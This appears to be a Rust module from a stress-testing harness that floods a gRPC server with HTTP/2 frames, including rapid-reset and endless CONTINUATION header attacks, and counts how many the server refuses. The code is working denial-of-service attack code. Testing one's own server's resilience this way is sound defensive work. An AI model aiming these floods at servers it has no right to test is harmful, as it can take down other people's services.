//! Floods of HTTP/2 frames.

use super::{Attack, PLAIN, Report, Target, end};
use crate::wire::{
    ACK, CONTINUATION, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, Writer, connect, frame,
};
use std::time::{Duration, Instant};

/// Frames sent at once.
const BATCH: usize = 1000;

pub(super) const PRIORITIES: Attack = Attack {
    name: "priority-frames",
    what: "PRIORITY frames, as many as the server takes",
    run: |target, time| Box::pin(flood(target, time, |_| frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 9]))),
    ..PLAIN
};

pub(super) const UNKNOWN: Attack = Attack {
    name: "unknown-frames",
    what: "frames of a kind that nobody knows, as many as the server takes",
    run: |target, time| Box::pin(flood(target, time, |_| frame(0xfa, 0, 0, b"hello"))),
    ..PLAIN
};

pub(super) const PINGS: Attack = Attack {
    name: "pings",
    what: "PING frames, as many as the server takes, whose answers are read",
    is_refused: false,
    run: |target, time| Box::pin(flood(target, time, |_| frame(PING, 0, 0, b"flooding"))),
    ..PLAIN
};

pub(super) const SETTINGS_FLOOD: Attack = Attack {
    name: "settings",
    what: "SETTINGS frames, as many as the server takes, whose answers are read",
    is_refused: false,
    run: |target, time| Box::pin(flood(target, time, |_| frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]))),
    ..PLAIN
};

pub(super) const RESETS: Attack = Attack {
    name: "rapid-reset",
    what: "calls that are reset as soon as they are sent",
    run: |target, time| {
        Box::pin(flood(target, time, |writer| {
            let (stream, mut bytes) =
                writer.headers("/leasehold.v1.ElectionService/ListElections", "application/grpc", END_STREAM);
            bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
            bytes
        }))
    },
    ..PLAIN
};

pub(super) const CONTINUATIONS: Attack = Attack {
    name: "continuations",
    what: "headers that never end",
    run: |target, time| {
        Box::pin(flood(target, time, |writer| {
            // One block of headers that goes on for ever: the first frame opens it.
            let (stream, first) = writer.headers("/x", "application/grpc", 0);
            if stream == 1 {
                frame(HEADERS, 0, 1, &first[9..])
            } else {
                frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y'].repeat(100))
            }
        }))
    },
    ..PLAIN
};

/// Sends what `next` makes, on one connection after the other, as fast as the server takes it.
async fn flood(target: Target, time: Duration, next: impl Fn(&mut Writer) -> Vec<u8>) -> anyhow::Result<Report> {
    let end = end(time);
    let (mut report, mut frames, mut connections) = (Report::default(), 0, 0);
    while Instant::now() < end {
        let Ok((mut writer, reader)) = connect(target.grpc, 65_535).await else { continue };
        let heard = reader.listen();
        connections += 1;
        writer.send(&frame(SETTINGS, ACK, 0, &[])).await?;
        while Instant::now() < end {
            let bytes: Vec<u8> = (0..BATCH).flat_map(|_| next(&mut writer)).collect();
            if writer.send(&bytes).await.is_err() {
                break;
            }
            frames += BATCH;
        }
        tokio::time::sleep(Duration::from_millis(1)).await;
        report.refused += heard.refused();
    }
    report.say(format!("{frames} frames on {connections} connections"));
    Ok(report)
}
